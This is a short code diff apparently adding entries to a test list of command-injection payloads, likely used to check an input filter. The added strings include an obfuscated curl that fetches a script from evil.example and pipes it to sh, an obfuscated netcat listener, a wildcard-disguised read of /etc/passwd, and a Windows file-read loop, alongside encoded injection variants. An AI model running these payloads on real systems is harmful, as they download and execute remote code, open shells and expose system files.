@@ -35,6 +35,11 @@ const ATTACKS = [
   ';system("cat /etc/passwd")',
   '%0Aid',
   'netstat -an',
+  'cu$@rl http://evil.example/s.sh|sh',
+  '{n$u\\c$u,-nlvp,4444}',
+  'ping -c 5 127.0.0.1',
+  'a|/???/??t /???/p??s??',
+  'x & FOR /F %G IN (c:\\x.txt) DO type %G',
 ]
 
 const ENCODED = ['%3Bid', '%7Cwhoami', '&#59;id', '；ｉｄ', '\\u003bid', ';i\u200bd']
